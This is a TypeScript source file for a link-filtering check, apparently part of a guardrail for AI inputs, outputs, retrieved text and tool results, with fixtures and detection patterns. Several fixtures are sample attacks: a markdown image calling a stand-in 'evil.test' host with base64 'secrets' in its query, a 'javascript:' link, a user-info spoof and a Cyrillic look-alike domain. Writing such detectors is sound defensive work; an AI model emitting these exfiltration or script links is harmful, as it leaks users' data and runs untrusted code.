import { z } from 'zod'
import type { Check } from '../check.ts'
import { examineEach, type Found, type KindNames } from '../found.ts'
import { carriesData, isAddressHost, isLookAlike, linksIn, parseLink, type Link } from '../links/link.ts'
import { isWord } from '../phrases/cues.ts'

const domain = z
  .string()
  .trim()
  .toLowerCase()
  .regex(/^(?=.{1,253}$)[\p{L}\p{N}-]+(\.[\p{L}\p{N}-]+)*$/u, 'must be a domain such as example.com')

const kinds = ['ip-host', 'look-alike', 'user-info', 'script', 'data-carrier'] as const

const options = z.strictObject({
  /** When given, links lead only to these and their subdomains. */
  allow: z.array(domain).max(1_000).default([]),
  /** Links never lead to these or their subdomains. */
  deny: z.array(domain).max(1_000).default([]),
  /** What else makes a link bad. */
  kinds: z.array(z.enum(kinds)).default([...kinds]),
})

const reach = 640
const longest = 500

const names: KindNames = {
  'denied-link': ['link to a denied domain', 'links to denied domains'],
  'unlisted-link': ['link to a domain that is not allowed', 'links to domains that are not allowed'],
  'ip-host': ['link to a bare address', 'links to bare addresses'],
  'look-alike': ['link to a look-alike domain', 'links to look-alike domains'],
  'user-info': ['link with a name before its host', 'links with a name before their host'],
  script: ['link that runs a script', 'links that run a script'],
  'data-carrier': [
    'image or frame whose address carries data',
    'images or frames whose addresses carry data',
  ],
}

export const check: Check<z.infer<typeof options>> = {
  name: 'links',
  about:
    'Links to where they should not lead, that pose as others, run scripts, or carry data out when shown.',
  misses:
    'Redirects and shorteners; look-alikes within the Latin script such as rn for m; data hidden in short or plain values; domains written without a scheme, unless they are on the deny list.',
  stages: ['input', 'output', 'retrieval', 'tool'],
  canMask: true,
  isRemote: false,
  threshold: 0.5,
  options,
  fixtures: [
    { text: 'See https://example.com/docs.', fires: false },
    { text: 'See https://docs.example.com/x.', options: { allow: ['example.com'] }, fires: false },
    {
      text: 'See https://other.test/x.',
      options: { allow: ['example.com'] },
      fires: true,
      kinds: ['unlisted-link'],
      masked: 'See [UNLISTED_LINK].',
    },
    { text: 'try a.evil.test today', options: { deny: ['evil.test'] }, fires: true, kinds: ['denied-link'] },
    { text: '![x](https://evil.test/p.png?d=c2VjcmV0)', fires: false },
    {
      text: '![x](https://evil.test/p.png?d=c2VjcmV0cyBvZiBib2I=)',
      fires: true,
      kinds: ['data-carrier'],
      masked: '![x]([DATA_CARRIER])',
    },
    { text: '![x](https://cdn.test/p.png?w=800&h=600)', fires: false },
    { text: 'http://0x7f000001/', fires: true, kinds: ['ip-host'] },
    { text: 'https://аррle.com/', fires: true, kinds: ['look-alike'] },
    { text: 'https://münchen.de/ and https://пример.рф/', fires: false },
    { text: 'https://bank.test@evil.test/', fires: true, kinds: ['user-info'] },
    { text: '[x](javascript:alert(1))', fires: true, kinds: ['script'] },
    { text: '"JavaScript: The Good Parts"', fires: false },
  ],
  ready({ allow, deny, kinds: wanted }) {
    const bad = new Set<string>(wanted)
    const isWithin = (host: string, domains: readonly string[]): boolean =>
      domains.some((one) => host === one || host.endsWith(`.${one}`))
    const [allowedHosts, deniedHosts] = [allow.map(asHost), deny.map(asHost)]

    const judge = (text: string, { start, end, loads }: Link): Found | null => {
      const url = parseLink(text.slice(start, end))
      if (url === null || url.hostname === '') return null
      const host = url.hostname.replace(/\.$/, '')
      const found = (kind: string, score: number): Found => ({ start, end, kind, score })
      if (isWithin(host, deniedHosts)) return found('denied-link', 1)
      if (isWithin(host, allowedHosts)) return null
      if (allowedHosts.length > 0) return found('unlisted-link', 1)
      const isWeb = /^(https?|ftp):$/.test(url.protocol)
      if (bad.has('ip-host') && isWeb && isAddressHost(host)) return found('ip-host', 0.8)
      if (bad.has('look-alike') && isLookAlike(host)) return found('look-alike', 0.95)
      if (bad.has('user-info') && isWeb && url.username !== '') return found('user-info', 0.8)
      return bad.has('data-carrier') && loads && carriesData(url) ? found('data-carrier', 0.85) : null
    }

    function* read(text: string): Generator<Found> {
      for (const link of linksIn(text, longest)) {
        const found = judge(text, link)
        if (found !== null) yield found
      }
      if (bad.has('script')) yield* scripts(text)
      for (const one of deny) yield* bareDomains(text, one)
    }

    return { reach, examine: (passages) => examineEach(passages, names, ({ text }) => [...read(text)]) }
  },
}

/** As a URL has it: lower case, other scripts in punycode. */
const asHost = (domain: string): string => parseLink(`https://${domain}`)?.hostname ?? domain

/** A scheme followed by a space is a word in a sentence. */
function* scripts(text: string): Generator<Found> {
  for (const match of text.matchAll(
    /(?<![a-z0-9])(?:(?:javascript|vbscript):|data:text\/html)(?=\S)[^\s"'<>]{0,200}/gi,
  ))
    yield { start: match.index, end: match.index + match[0].length, kind: 'script', score: 0.85 }
}

/** A denied domain that stands without a scheme, with its subdomains. */
function* bareDomains(text: string, domain: string): Generator<Found> {
  const lower = text.toLowerCase()
  // Some capitals become two units: then places would be wrong.
  if (lower.length !== text.length) return
  for (let at = lower.indexOf(domain); at >= 0; at = lower.indexOf(domain, at + domain.length)) {
    let start = at
    while (start > 0 && at - start < 100 && /[\w.-]/.test(lower[start - 1]!)) start--
    const [before, end] = [lower.charCodeAt(at - 1), at + domain.length]
    const isWhole =
      (at === 0 || before === 0x2e || !(isWord(before) || before === 0x2d)) && !isWord(lower.charCodeAt(end))
    const isSchemed = lower.slice(Math.max(0, start - 3), start).endsWith('//')
    if (isWhole && !isSchemed) yield { start, end, kind: 'denied-link', score: 1 }
  }
}
